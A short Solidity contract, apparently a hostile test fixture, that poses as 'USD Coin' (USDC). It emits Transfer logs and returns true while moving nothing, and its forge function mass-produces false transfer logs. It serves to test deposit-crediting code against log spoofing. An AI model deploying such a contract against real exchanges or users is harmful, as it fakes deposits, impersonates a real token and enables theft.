// SPDX-License-Identifier: Apache-2.0
pragma solidity ^0.8.24;

/// @title LyingToken
/// @notice Hostile: writes a Transfer log and returns true, but moves nothing and reports no balance. A program
/// that credits a deposit by the log alone credits money that does not exist. `forge` writes a log between any two accounts.
contract LyingToken {
    string public constant name = "USD Coin";
    string public constant symbol = "USDC";
    uint8 public constant decimals = 6;
    uint256 public constant totalSupply = 0;

    event Transfer(address indexed from, address indexed to, uint256 value);

    /// @notice Always zero.
    function balanceOf(address) external pure returns (uint256) {
        return 0;
    }

    /// @notice Claims to move `value` to `to`.
    function transfer(address to, uint256 value) external returns (bool) {
        emit Transfer(msg.sender, to, value);
        return true;
    }

    /// @notice Claims to move `value` from `from` to `to`, without consent of either.
    function transferFrom(address from, address to, uint256 value) external returns (bool) {
        emit Transfer(from, to, value);
        return true;
    }

    /// @notice Writes `count` false logs in one transaction.
    function forge(address from, address to, uint256 value, uint256 count) external {
        for (uint256 i = 0; i < count; i++) {
            emit Transfer(from, to, value);
        }
    }
}
